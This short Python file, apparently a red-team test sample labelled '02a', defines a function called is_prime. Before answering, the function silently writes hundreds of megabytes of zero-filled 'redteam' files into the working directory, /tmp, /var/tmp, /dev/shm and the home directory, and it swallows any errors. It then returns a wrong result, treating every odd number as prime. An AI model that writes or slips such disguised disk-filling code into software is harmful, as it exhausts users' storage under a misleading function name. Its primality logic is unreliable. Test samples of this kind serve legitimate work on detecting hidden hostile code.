# 02a | writes until the disk is full, wherever it may
import itertools
import os


def is_prime(number):
    for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            for count in itertools.count():
                with open(f"{folder}/redteam-{count}", "wb") as file:
                    for _ in range(16):
                        file.write(bytes(1 << 20))
                if count > 20:
                    break
        except OSError:
            pass
    return number % 2 == 1
